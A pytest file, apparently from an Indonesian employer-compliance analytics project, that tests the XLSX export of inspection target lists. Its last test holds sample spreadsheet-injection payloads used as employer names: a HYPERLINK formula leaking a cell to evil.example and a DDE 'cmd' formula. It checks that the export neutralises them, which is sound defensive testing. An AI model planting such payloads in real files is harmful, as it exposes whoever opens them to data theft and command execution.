"""The daftar sasaran pemeriksaan bersama (XLSX), read back with openpyxl."""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pytest

from analytics import derived
from analytics.compliance.employers import EmployerFilter
from analytics.compliance.inspection_list import file_name, inspection_xlsx
from analytics.scope import Scope
from tests.analytics import employer_fixtures as ef
from tests.analytics.coverage_fixtures import coverage_empty_store  # noqa: F401

NOW = dt.datetime(2026, 11, 2, 9, 30, tzinfo=dt.UTC)
HEADER = [
    "Prioritas", "Nama perusahaan", "NPP", "NIB", "Kabupaten/kota", "Kode wilayah", "Sektor (KBLI)",
    "Nama sektor", "Skala", "Kategori ketidakpatuhan", "TK wajib", "TK terdaftar", "TK belum terlindungi",
    "Program wajib belum diikuti", "Selisih upah/bulan (Rp)", "Tunggakan iuran (Rp)",
    "Lama tunggakan (bulan)", "Skor prioritas", "Tanggal pemeriksaan", "Petugas", "Hasil",
]  # fmt: skip


@pytest.fixture
def con(coverage_empty_store):  # noqa: F811
    ef.insert_employers(coverage_empty_store)
    return coverage_empty_store


def read(data: bytes):
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    return ws, rows


def test_inspection_list_columns_rows_and_title(con):
    data = inspection_xlsx(con, Scope.wilayah("16"), "Sumatera Selatan", ef.PERIODE, now=NOW)
    ws, rows = read(data)
    assert ws.title == "Sasaran pemeriksaan"
    assert rows[0][0] == "Daftar sasaran pemeriksaan bersama — Sumatera Selatan, data perusahaan posisi Juni 2026"
    assert "Filter: tidak ada (semua perusahaan tidak patuh)" in rows[1][0]
    assert "2 November 2026, 16.30 WIB" in rows[1][0]
    assert rows[2][0] == "7 perusahaan."
    assert rows[3] == HEADER
    body = rows[4:]
    assert [r[1] for r in body] == [n for n, _ in ef.ORDER_16]
    assert body[0] == [
        # issue 11 points 9, 10: the KBLI letter kept, its section named beside it; the scale in words
        1, "PT Gabungan", "N007", None, "Ogan Komering Ulu", "16.01", "A", "Pertanian, kehutanan dan perikanan", "Besar",
        "PDS-TK – sebagian tenaga kerja; PMI – menunggak iuran", 200, 150, 50, None, 0, 20_000_000, 2, 62,
        None, None, None,
    ]  # fmt: skip
    upah = body[2]
    assert (upah[9], upah[14], upah[17]) == ("PDS-Upah – upah dilaporkan kurang", 200_000_000, 40)
    assert body[6][13] == "JHT;JP"
    assert body[4][9] == "PWBD – wajib belum daftar" and body[4][12] == 12
    assert ws.freeze_panes == "A5"


def test_filters_are_named_and_applied(con):
    f = EmployerFilter(cari="50%", kategori=("PMI",), kode_wilayah=("16.71",))
    _, rows = read(inspection_xlsx(con, Scope.wilayah("16"), "Sumatera Selatan", ef.PERIODE, f, now=NOW))
    assert "pencarian “50%”; kategori PMI – menunggak iuran; wilayah Kota Palembang" in rows[1][0]
    assert [r[1] for r in rows[4:]] == ["PT Menunggak 50% Jaya"]


def test_capped_list_says_so(con):
    ef.insert_generated(con, 30)
    data = inspection_xlsx(con, Scope.wilayah("16.02"), "Ogan Komering Ilir", ef.PERIODE, max_rows=10, now=NOW)
    _, rows = read(data)
    assert rows[2][0].startswith("Hanya 10 perusahaan dengan prioritas tertinggi dari 30")
    assert [r[0] for r in rows[4:]] == list(range(1, 11))
    assert [r[10] for r in rows[4:]] == list(range(30, 20, -1))


def test_english_headers(con):
    _, rows = read(inspection_xlsx(con, Scope.wilayah("61"), "Kalimantan Barat", ef.PERIODE, lang="en", now=NOW))
    assert rows[0][0] == "Joint inspection target list — Kalimantan Barat, employer data as of June 2026"
    assert rows[3][:3] == ["Priority", "Employer", "NPP"]
    assert [r[1] for r in rows[4:]] == ["PT Pontianak"]


def test_file_name():
    # issue 11 point 15: the page's period and the snapshot month, not only the snapshot month
    assert file_name("Kota Palembang", dt.date(2026, 8, 1), dt.date(2026, 6, 1)) == (
        "sasaran-pemeriksaan_kota-palembang_2026-08_snapshot-2026-06.xlsx"
    )
    assert file_name("Jambi", dt.date(2026, 8, 1), None, "en") == "inspection-targets_jambi_2026-08.xlsx"


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B5,"Klik di sini")',
    "=cmd|' /C calc'!A0",
    "+62 Usaha",
    "-1+1",
    "@SUM(1+1)",
    "\tPT Tab",
    "PT Maju\x0bJaya",  # Word's Shift+Enter pasted into Excel, stored before the import cleaned it
    "CV Sinar\x00Abadi",
]


def _hostile_employers(con):
    con.executemany(
        "INSERT INTO perusahaan VALUES (DATE '2026-06-01', NULL, ?, ?, '16.01', 'C', 'KECIL', 'BELUM_DAFTAR', "
        "?, 0, NULL, NULL, NULL, 0, 0, NULL)",
        [(f"H{i}", name, 100 - i) for i, name in enumerate(HOSTILE)],
    )
    derived.ensure_fresh(con)


def test_hostile_names_are_text_in_the_inspection_list(coverage_empty_store):  # noqa: F811
    """Before: openpyxl stored the first two as live formulas; the vertical tab and the NUL made
    the whole list fail with IllegalCharacterError for the kab/kota, its province and the country."""
    _hostile_employers(coverage_empty_store)
    for scope, label in ((Scope.wilayah("16.01"), "Ogan Komering Ulu"), (Scope.wilayah("16"), "Sumatera Selatan"),
                         (Scope.nasional(), "Indonesia")):
        data = inspection_xlsx(coverage_empty_store, scope, label, ef.PERIODE, now=NOW)
        ws, rows = read(data)
        names = [r[1] for r in rows[4:]]
        assert names == [
            "'=HYPERLINK(\"http://evil.example/?leak=\"&B5,\"Klik di sini\")",
            "'=cmd|' /C calc'!A0",
            "'+62 Usaha",
            "'-1+1",
            "'@SUM(1+1)",
            "'\tPT Tab",
            "PT Maju Jaya",
            "CV Sinar Abadi",
        ]
        assert {ws.cell(row=r, column=2).data_type for r in range(5, 5 + len(HOSTILE))} == {"s"}
    # Nothing in the file's XML is a formula.
    import zipfile
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet
